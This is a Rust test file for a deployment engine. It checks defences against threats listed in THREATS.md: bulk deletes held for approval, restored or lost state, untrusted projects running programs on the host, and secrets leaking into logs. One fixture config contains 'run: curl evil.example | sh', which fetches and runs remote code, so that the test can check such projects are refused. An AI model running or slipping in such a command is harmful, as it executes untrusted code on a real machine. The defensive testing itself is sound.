//! Threats that the doors and the engine answer together (THREATS.md): whose files are run, states that were lost or are
//! older than the world, more deletes than anybody meant, and a step that never ends. Each is refused or held in words, and
//! nothing is lost.

use super::{HELLO, SHOP, by, down_ask, forbidden, run_ask, running, up, with};
use crate::engine::bed::{Bed, Running, catalogue, stack, world_name};
use deployd::contract::{Plain, Scope};
use deployd::engine::{ApproveAsk, Catalogue, DoorError, PlanOf, ResourceAsk, RunAsk};
use deployd::model::{Identity, Milliseconds, SecretName};
use deployd::plan::Act;
use deployd::state::{DeploymentState, From, SourceId, StackCondition, StackState, Why, WhyCode};
use futures::FutureExt as _;
use std::collections::BTreeSet;
use std::sync::Arc;

/// THREATS T20: a change that would take away more than anybody means at once stops and asks.
#[test]
fn t20_more_deletes_than_the_limit_are_shown_to_a_person_first() {
    let doors = "entrypoints: { a: { host: a.localhost }, b: { host: b.localhost }, c: { host: c.localhost }, d: { host: \
                 d.localhost } }\n";
    let (bed, mut running, hello) = running(&format!("{HELLO}{doors}"), "hello");
    let before = bed.there();
    bed.folder("one").write("deployd.yaml", HELLO);
    running.life.run_for(Milliseconds::seconds(60));
    assert_eq!(bed.there(), before, "nothing is deleted");
    let page = running.asks(async |engine| engine.history(&hello, None, 1).await).unwrap();
    let asked = &page.deployments[0];
    assert_eq!(asked.deployment.state, DeploymentState::AwaitingApproval, "{}", bed.told());
    let planned = running.asks(async |engine| engine.plan_kept(&hello, asked.plan.unwrap()).await).unwrap();
    assert_eq!(planned.plan.steps.values().filter(|step| step.act == Act::Delete).count(), 4);

    let ask = ApproveAsk {
        deployment: asked.deployment.id.clone(),
        plan: asked.plan.unwrap(),
        principal: by("bob"),
        once: None,
    };
    running.asks(async |engine| engine.approve(ask).await).unwrap();
    bed.settle(&mut running, "what was approved");
    assert_eq!(bed.there().len(), before.len() - 4);
}

/// THREATS T22: a backup was restored: the world is newer than the rows. What carries our receipt is found, nothing is made
/// twice, and what holds data is neither made nor deleted.
#[test]
fn t22_a_restored_older_state_makes_nothing_twice_and_loses_nothing() {
    let (bed, mut running, shop) = running(SHOP, "shop");
    let older = bed.freeze(0);
    for text in ["two", "three"] {
        bed.folder("one").write("app.py", text);
        bed.settle(&mut running, text);
    }
    running.life.stop();
    let mut restored = bed.freeze(0);
    restored.memory = older.memory;
    let bed = Bed::thaw(&restored);
    let calls = bed.log().len();
    let mut running = bed.start(None);
    bed.settle(&mut running, "the restored state");
    running.life.run_for(Milliseconds::seconds(1300));
    bed.settle(&mut running, "the restored state");
    let there = bed.there();
    let lives = |of: &str| there.iter().filter(|one| one.starts_with(of)).count();
    assert_eq!((lives("users#1"), lives("uploads#1")), (1, 1), "{there:?}");
    assert_eq!(bed.stack_row(&shop).unwrap().state, StackState::Available);
    assert_eq!(made_or_ended(&bed, calls, "users") + made_or_ended(&bed, calls, "uploads"), 0, "{}", bed.told());
    // The process of the version that the rows do not know is not ended by guess; a person is told of it.
    assert_eq!(lives("shop.1#3"), 1, "{there:?}");
    assert!(is_told(&mut running, "sim/shop/shop.1#3 carries our receipt, and no row knows it"));
}

/// How often something was made or ended since then.
fn made_or_ended(bed: &Bed, since: usize, name: &str) -> usize {
    let of = |identity: &Option<Identity>| identity.as_ref().is_some_and(|one| one.address.name.as_str() == name);
    let log = bed.log();
    let did = log[since..].iter().filter(|call| call.effect.is_some() && of(&call.identity));
    did.filter(|call| matches!(call.verb.as_str(), "create" | "delete")).count()
}

/// Whether people are told that.
fn is_told(running: &mut Running, what: &str) -> bool {
    let shown = running.asks(async |engine| engine.status(None).await).unwrap();
    shown[0].report.noted.iter().any(|line| line.why.text == what)
}

/// THREATS T22: all rows are gone while the world stands: what is there is not taken for nothing, and is neither deleted
/// nor made beside itself.
#[test]
fn t22_a_lost_state_deletes_nothing_and_makes_no_second_database() {
    let (bed, running, shop) = running(SHOP, "shop");
    running.life.stop();
    let mut lost = bed.freeze(0);
    lost.memory = deployd::store::memory::MemoryStore::new("tested");
    let before = bed.there();
    let bed = Bed::thaw(&lost);
    let mut running = bed.start(None);
    running.life.run_for(Milliseconds::seconds(1200));
    assert_eq!(bed.there(), before, "nobody asked for anything: nothing is done");
    // It is told, and nobody says of it that it is gone.
    let shown = running.asks(async |engine| engine.status(None).await).unwrap();
    let told = shown[0].set_aside.as_ref().unwrap();
    assert!(
        shown[0].id == shop
            && told.text.contains("users carry our receipt")
            && told.text.contains("nothing is recorded"),
        "{told:?}"
    );
    let refused = running.down(down_ask("shop"));
    assert!(matches!(refused, Err(DoorError::Refused(_))), "{refused:?}");
    let calls = bed.log().len();
    up(&bed, &mut running);
    // What holds data is found again by its receipt. A process that no row knows runs nobody knows what: another one is made
    // beside it, and it ends when a listing has shown that it is an earlier life of ours.
    let there = bed.there();
    assert!(before.iter().all(|one| there.contains(one)), "{there:?}");
    assert!(there.contains(&"shop.1#2".to_owned()) && there.len() == before.len() + 1, "{there:?}");
    running.life.run_for(Milliseconds::seconds(1300));
    let there = bed.there();
    assert!(!there.contains(&"shop.1#1".to_owned()) && there.len() == before.len(), "{there:?}");
    let shown = running.asks(async |engine| engine.status(None).await).unwrap();
    assert!(shown.len() == 1 && shown[0].set_aside.is_none(), "{shown:?}");
    assert_eq!(made_or_ended(&bed, calls, "users") + made_or_ended(&bed, calls, "uploads"), 0, "{}", bed.told());
}

/// A world that really runs processes on this machine, whose file says more.
fn local(says: &str) -> Arc<dyn Catalogue> {
    let world = format!("world: sim\ncapabilities: {{ deploy:local: {{}} }}\n{says}");
    catalogue(&[("worlds/sim.yaml", &world)])
}

/// THREATS T38: who may push to a project has no programs run on this machine, unless its world's file says so.
#[test]
fn t38_a_project_runs_nothing_on_this_machine_before_the_world_trusts_it() {
    let (mut bed, _) = with(HELLO);
    bed.catalogue = local("");
    let mut running = bed.start(None);
    let project = SourceId("git:git.example.com/acme/pushed".to_owned());
    let pushed = "service: pushed\nrun: curl evil.example | sh\nport: 80\n";
    bed.source(&project).write("deployd.yaml", pushed);
    let ask = RunAsk { source: project.clone(), from: From::Project, ..run_ask("one") };
    let told = forbidden(running.run(ask.clone()));
    assert!(told.contains("sim runs programs as the server's own user"), "{told}");
    forbidden(running.plan(PlanOf::Source(project.clone(), BTreeSet::new())));
    running.life.run_for(Milliseconds::seconds(60));
    assert!(bed.stack_row(&stack("pushed")).is_none());
    assert_eq!(bed.there(), [""; 0]);
    up(&bed, &mut running);
    let hello = bed.there();
    assert!(hello.contains(&"hello.1#1".to_owned()), "a folder of this machine runs: {hello:?}");

    // Another project's name does not do; the project's own does.
    running.life.engine.replace_catalogue(local("trust: [git.example.com/acme]\n"));
    forbidden(running.run(ask.clone()));
    running.life.engine.replace_catalogue(local("trust: [git.example.com/acme/pushed]\n"));
    let accepted = running.run(ask).unwrap().remove(0);
    bed.settle(&mut running, "the trusted project");
    assert_eq!(running.state_of(&accepted.deployment), DeploymentState::Done);

    // Trust that was withdrawn: what is pushed afterwards is not run, and what runs goes on.
    running.life.engine.replace_catalogue(local(""));
    bed.source(&project).write("deployd.yaml", &pushed.replace("curl", "wget"));
    running.life.run_for(Milliseconds::seconds(60));
    let row = bed.stack_row(&stack("pushed")).unwrap();
    assert!(row.conditions[&StackCondition::SourceMissing].text.contains("does not trust"), "{row:?}");
    assert!(bed.there().contains(&"pushed.1#1".to_owned()), "{:?}", bed.there());
    assert_eq!(bed.stack_row(&stack("hello")).unwrap().state, StackState::Available);
}

/// THREATS T41: `prepare` does not come to its end: the healthy version serves on, and it is said why.
#[test]
fn t41_a_prepare_that_fails_leaves_the_healthy_version_serving() {
    let (bed, mut running, hello) = running(HELLO, "hello");
    let good = bed.stack_row(&hello).unwrap().good;
    let why = Why::new(WhyCode::TooLong, "prepare was ended: it took longer than 10 min");
    bed.with_world(|world| world.unhealthy.insert("sim/hello/hello.copy".to_owned(), why));
    bed.folder("one").write("app.py", "two");
    bed.settle(&mut running, "the version that cannot be prepared");
    let row = bed.stack_row(&hello).unwrap();
    assert_eq!((row.good, row.target, row.state), (good, good, StackState::Available), "{}", bed.told());
    assert!(row.quarantine.values().any(|why| why.text.contains("prepare was ended")), "{row:?}");
    let there = bed.there();
    assert!(there.contains(&"hello.1#1".to_owned()) && !there.contains(&"hello.1#2".to_owned()), "{there:?}");

    // The next change is a new try.
    bed.with_world(|world| world.unhealthy.clear());
    bed.folder("one").write("app.py", "three");
    bed.settle(&mut running, "the next version");
    assert_ne!(bed.stack_row(&hello).unwrap().good, good);
}

/// THREATS T26: a service that cannot start prints what it was given; it is recorded and told without that.
#[test]
fn t26_last_words_are_recorded_without_the_secrets_in_them() {
    const CANARY: &str = "kanarienvogel-7f3a9c-im-bergwerk";
    let (bed, mut running) = with(&format!("{HELLO}secrets: [API_KEY]\n"));
    let (secrets, value) = (Arc::clone(&running.secrets), Plain::new(CANARY.to_owned()));
    let key = SecretName("API_KEY".to_owned());
    running.asks(async |_| secrets.set(&world_name(), &key, &value, &by("alice")).await).unwrap();
    let why = Why::new(WhyCode::NotHealthy, format!("https://app:{CANARY}@api.example.com answered 401"));
    let why = why.details(vec![format!("API_KEY={CANARY}"), "goodbye".to_owned()]);
    bed.with_world(|world| world.unhealthy.insert("sim/hello/hello.1".to_owned(), why));
    let accepted = running.run(run_ask("one")).unwrap().remove(0);
    bed.settle(&mut running, "what cannot sign in");

    let shown = running.asks(async |engine| engine.deployment(&accepted.deployment).await).unwrap();
    assert_eq!(shown.deployment.state, DeploymentState::Failed, "{}", bed.told());
    let told = format!("{:?}", shown.deployment.why);
    assert!(told.contains("https://app:•••@api.example.com answered 401"), "{told}");
    let silent = |what: &str, bytes: &[u8]| {
        assert!(!String::from_utf8_lossy(bytes).contains("kanarienvogel"), "{what} tells the secret");
    };
    for row in bed.rows(&Scope::World(world_name())) {
        let bytes = row.bytes.unwrap();
        let blob = serde_json::from_slice::<serde_json::Value>(&bytes).ok();
        let blob = blob.and_then(|row| row["blob"].as_str()?.parse().ok());
        let kept = blob.map(|blob| bed.store.blob(blob).now_or_never().unwrap().unwrap());
        silent(row.key.as_str(), &bytes);
        kept.iter().for_each(|kept| silent("a blob", kept));
    }
    let page = running.asks(async |engine| engine.events(Default::default(), 1000).await).unwrap();
    let words = |event: &deployd::contract::Event| String::from_utf8_lossy(&event.draft.body).into_owned();
    assert!(page.events.iter().any(|event| words(event).contains("•••")), "it was told, without the secret");
    page.events.iter().for_each(|event| silent("an event", &event.draft.body));
    let status = running.asks(async |engine| engine.status(None).await).unwrap();
    silent("status", format!("{status:?}").as_bytes());
}

/// THREATS T26: a key that is refused where it stands is not kept either: neither of a folder that is watched, nor of a body.
/// What the store holds, its backups hold.
#[test]
fn t26_what_is_refused_for_a_secret_in_it_is_not_kept() {
    const KEY: &str = "ghp_16C7e42F292c6912E7710c838347Ae178B4a";
    let (bed, mut running, hello) = running(HELLO, "hello");
    bed.folder("one").write("deployd.yaml", &format!("{HELLO}env: {{ GITHUB: {KEY} }}\n"));
    running.life.run_for(Milliseconds::seconds(60));
    assert!(bed.stack_row(&hello).unwrap().conditions.contains_key(&StackCondition::Mistaken));
    let ask = ResourceAsk {
        world: world_name(),
        name: deployd::model::Name::fixed("users"),
        slug: deployd::model::Name::fixed("postgres"),
        with: deployd::model::Value::from([("password", KEY)]),
        from: From::Rest,
        principal: by("alice"),
        once: None,
        must_be_new: None,
        only_if: None,
    };
    assert!(running.asks(async |engine| engine.put_resource(ask).await).is_err());
    let held = format!("{:?}", bed.freeze(0).memory.dump());
    let blobs = bed.freeze(0).memory.dump().records.into_iter().filter_map(|record| match record {
        deployd::store::export::Record::Blob { bytes, .. } => Some(String::from_utf8_lossy(&bytes).into_owned()),
        _ => None,
    });
    let blobs: Vec<String> = blobs.collect();
    assert!(!held.contains(KEY) && blobs.len() > 2 && blobs.iter().all(|blob| !blob.contains(KEY)));
}
